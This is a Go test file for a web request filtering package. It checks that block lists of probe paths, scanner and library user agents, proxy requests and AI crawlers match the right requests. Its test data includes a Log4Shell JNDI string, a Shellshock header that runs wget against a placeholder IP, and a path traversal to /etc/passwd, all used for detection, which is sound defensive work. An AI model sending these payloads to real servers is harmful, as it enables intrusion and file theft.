package conditions

import (
	"os"
	"slices"
	"strconv"
	"strings"
	"testing"
)

// corpus returns the lines of a file in testdata that are no comments.
func corpus(t testing.TB, name string) (lines []string) {
	t.Helper()
	data, err := os.ReadFile("testdata/" + name)
	if err != nil {
		t.Fatal(err)
	}
	for line := range strings.Lines(string(data)) {
		if line = strings.TrimSuffix(line, "\n"); line != "" && !strings.HasPrefix(line, "# ") {
			lines = append(lines, line)
		}
	}
	return lines
}

// listConditions returns the lists for an attribute, a condition on each and their index.
func listConditions(t testing.TB, a Attribute) (names []string, all []When, index *Index) {
	t.Helper()
	for _, l := range Lists() {
		if l.Attribute == a {
			patterns := Texts{}
			patterns[a.String()] = []string{"@" + l.Name}
			names, all = append(names, l.Name), append(all, parse(t, patterns))
		}
	}
	return names, all, NewIndex(all)
}

// listsThatHit returns a function that returns the names of the lists that a request meets, by the index
// and by each condition.
func listsThatHit(t testing.TB, a Attribute) func(r *Request) (hit []string) {
	names, all, index := listConditions(t, a)
	return func(r *Request) (hit []string) {
		index.Find(r, func(i int) { hit = append(hit, names[i]) })
		for i, w := range all {
			if w.Meets(r) != slices.Contains(hit, names[i]) {
				t.Errorf("%s and %+v: the index finds %q, Meets returns %v", names[i], r, hit, w.Meets(r))
			}
		}
		return hit
	}
}

func TestListsOfProbesHitNoOrdinaryPath(t *testing.T) {
	hits := listsThatHit(t, Path)
	for _, path := range corpus(t, "ordinary.txt") {
		hit := hits(NewRequest(path, "GET", "Mozilla/5.0", "example.org"))
		for _, name := range []string{"traversal", "secrets", "consoles", "devices", "exploits", "injections", "proxying"} {
			if slices.Contains(hit, name) {
				t.Errorf("the list %s hits %s", name, path)
			}
		}
	}
}

func TestListsHitProbes(t *testing.T) {
	hits := listsThatHit(t, Path)
	for _, line := range corpus(t, "probes.txt") {
		name, target, _ := strings.Cut(line, " ")
		if hit := hits(NewRequest(target, "GET", "", "")); !slices.Contains(hit, name) {
			t.Errorf("the list %s does not hit %s; %q do", name, target, hit)
		}
	}
}

func TestListsOfFamiliesHitTheirPaths(t *testing.T) {
	hits := listsThatHit(t, Path)
	for name, paths := range map[string][]string{
		"wordpress": {"/wp-login.php", "/blog/wp-content/x.css", "/wp/wp-includes/wlwmanifest.xml", "/xmlrpc.php", "/wp-json/wp/v2/users"},
		"php":       {"/a.php", "/a.PHP", "/a.php/b", "/a.phtml", "/a.php7"},
		"logins":    {"/wp-login.php", "/login", "/users/sign_in", "/admin/login/", "/owa/auth.owa", "/oauth/token", "/app/j_security_check", "/administrator/index.php", "/phpMyAdmin/index.php", "/accounts/login/"},
		"assets":    {"/a.css", "/b/c.JPG?v=1", "/a.woff2", "/main.js.map"},
		"proxying":  {"http://other.example/", "https://other.example/a", "HTTP://OTHER.example:8080/"},
	} {
		for _, path := range paths {
			if hit := hits(NewRequest(path, "POST", "", "example.org")); !slices.Contains(hit, name) {
				t.Errorf("the list %s does not hit %s", name, path)
			}
		}
	}
	for _, path := range []string{"http://example.org/", "https://EXAMPLE.org:443/a?b=http://c", "/http://a", "/?url=http://a", "/a://b"} {
		if hit := hits(NewRequest(path, "GET", "", "example.org")); slices.Contains(hit, "proxying") {
			t.Errorf("%s is a request for another host", path)
		}
	}
}

func TestListsOfAgents(t *testing.T) {
	hits := listsThatHit(t, Agent)
	for _, test := range []struct {
		agent string
		want  []string
	}{
		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36", nil},
		{"Mozilla/5.0 (X11; Linux x86_64; rv:144.0) Gecko/20100101 Firefox/144.0", nil},
		{"Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1", nil},
		{"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", nil},
		{"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", nil},
		{"Mozilla/5.0 zgrab/0.x", []string{"scanners"}},
		{"sqlmap/1.8#stable (https://sqlmap.org)", []string{"scanners"}},
		{"Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)", []string{"scanners"}},
		{"Fuzz Faster U Fool v2.1.0", []string{"scanners"}},
		{"Expanse, a Palo Alto Networks company, searches across the global IPv4 space", []string{"scanners"}},
		{"Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)", []string{"scanners"}},
		{"${jndi:ldap://192.0.2.1/a}", []string{"scanners"}},
		{"() { :; }; /bin/bash -c 'wget http://192.0.2.1/x'", []string{"scanners"}},
		{"python-requests/2.32.3", []string{"libraries"}},
		{"Go-http-client/2.0", []string{"libraries"}},
		{"curl/8.10.1", []string{"libraries"}},
		{"okhttp/4.12.0", []string{"libraries"}},
		{"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.3; +https://openai.com/gptbot)", []string{"ai-crawlers"}},
		{"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)", []string{"ai-crawlers"}},
		{"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; PerplexityBot/1.0; +https://perplexity.ai/perplexitybot)", []string{"ai-crawlers"}},
		{"Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 (compatible; Bytespider; spider-feedback@bytedance.com)", []string{"ai-crawlers"}},
		{"CCBot/2.0 (https://commoncrawl.org/faq/)", []string{"ai-crawlers"}},
	} {
		if hit := hits(NewRequest("", "", test.agent, "")); !slices.Equal(hit, test.want) {
			t.Errorf("%q is hit by %q, want %q", test.agent, hit, test.want)
		}
	}
}

func TestListsAreComplete(t *testing.T) {
	for _, l := range Lists() {
		if len(l.Patterns) == 0 || len(l.Title) > 60 || !strings.HasSuffix(l.Description, ".") || len(l.Date) != len("2026-11-28") {
			t.Errorf("%s: %d patterns, title %q, date %q, description %q", l.Name, len(l.Patterns), l.Title, l.Date, l.Description)
		}
		if FindList(l.Name) != l || CheckValueName(strings.ReplaceAll(l.Name, "-", "_")) != nil {
			t.Errorf("%q is a bad name", l.Name)
		}
	}
	for _, bad := range []string{
		"", "title: a\n\n/a\n", "title: a\nattribute: path\ndate: d\nsource: s\ndescription: d\n\na\n", "title: a\nattribute: nose\ndate: d\nsource: s\ndescription: d\n\n/a\n",
		"title: a\nattribute: path\ndate: d\nsource: s\ndescription: d\n\n/a\n/A\n", "title: a\nattribute: path\ndate: d\nsource: s\ndescription: d\n\n*\n",
		"title: a\nattribute: path\ncompared: often\ndate: d\nsource: s\ndescription: d\n\n/a\n",
	} {
		if _, err := parseList("a", bad); err == nil {
			t.Errorf("the list %q is accepted", bad)
		}
	}
}

// The query of a target is compared with the lists that are compared as sent, and is never part of what a
// refusal records.
func TestQueryIsComparedAndNotRecorded(t *testing.T) {
	w := parse(t, Texts{"path": {"@traversal"}})
	r := NewRequest("/a?token=secret&file=../../../../etc/passwd", "GET", "", "")
	if !w.Meets(r) {
		t.Fatal("the traversal in the query is not found")
	}
	for _, m := range w.Met(r) {
		if m.Value != "/a" || m.Describe() != `path "/a" is in the list traversal` {
			t.Errorf("recorded %+v", m)
		}
	}
}

// BenchmarkFindLists compares an ordinary request with 300 conditions, each with lists and exclusions.
func BenchmarkFindLists(b *testing.B) {
	all := make([]When, 300)
	for i := range all {
		all[i] = parse(b, Texts{"path": {"@secrets", "@consoles", "@exploits", "@traversal", "/trap-" + strconv.Itoa(i), "not /own-" + strconv.Itoa(i) + "/*"}, "agent": {"@scanners"}})
	}
	index := NewIndex(all)
	for _, path := range []string{"/articles/2026/november/a-long-title", "/shop/search?q=blue%20shirt&page=2"} {
		b.Run(path[1:5], func(b *testing.B) {
			for b.Loop() {
				index.Find(NewRequest(path, "GET", "Mozilla/5.0 (X11; Linux x86_64; rv:144.0) Gecko/20100101 Firefox/144.0", "example.org"), func(int) { b.Fatal("found") })
			}
		})
	}
}
